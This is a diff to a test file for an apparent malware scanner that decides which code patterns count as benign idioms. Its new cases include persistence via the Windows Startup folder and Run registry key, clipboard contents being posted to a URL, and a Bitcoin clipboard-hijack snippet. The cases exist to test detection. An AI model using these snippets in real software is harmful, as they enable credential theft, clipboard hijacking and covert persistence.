@@ -52,6 +52,12 @@ describe('known-benign idioms', () => {
         context: 'install',
       }),
     ],
+    [
+      'persistence-path-mention',
+      ev('persistence', "UNIT_DIR = '/etc/systemd/system'", { context: 'import', message: 'systemd unit' }),
+    ],
+    ['clipboard-probe', ev('clipboard-access', '_ = pyperclip.paste()')],
+    ['clipboard-probe', ev('clipboard-access', 'pyperclip.paste()  # can we reach it?')],
   ])('%s excuses its honest shape', (id, evidence) => {
     expect(benignIdiom(evidence)?.id).toBe(id);
   });
@@ -80,6 +86,18 @@ describe('known-benign idioms', () => {
     ev('persistence', 'CRON = "/usr/bin/crontab"', { context: 'install', message: 'crontab' }),
     ev('persistence', "'pkg.crontab:x'; os.system('crontab -l')", { context: 'install', message: 'crontab' }),
     ev('credential-paths', "open(os.path.expanduser('~/.pypirc')).read()", { context: 'install' }),
+    ev('persistence', "p = os.path.join(home, 'Start Menu', 'Programs', 'Startup')", {
+      context: 'import',
+      message: 'Windows startup folder',
+    }),
+    ev('persistence', "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'", {
+      context: 'import',
+      message: 'Windows Run registry key',
+    }),
+    ev('clipboard-access', 'data = pyperclip.paste()'),
+    ev('clipboard-access', '_ = pyperclip.paste(); requests.post(URL, data=_)'),
+    ev('clipboard-access', "pyperclip.copy('bc1qattacker')"),
+    ev('clipboard-access', 'if re.match(BTC, pyperclip.paste()):'),
   ])('does not excuse a payload that borrows it (%#)', (evidence) => {
     expect(benignIdiom(evidence)).toBeUndefined();
   });
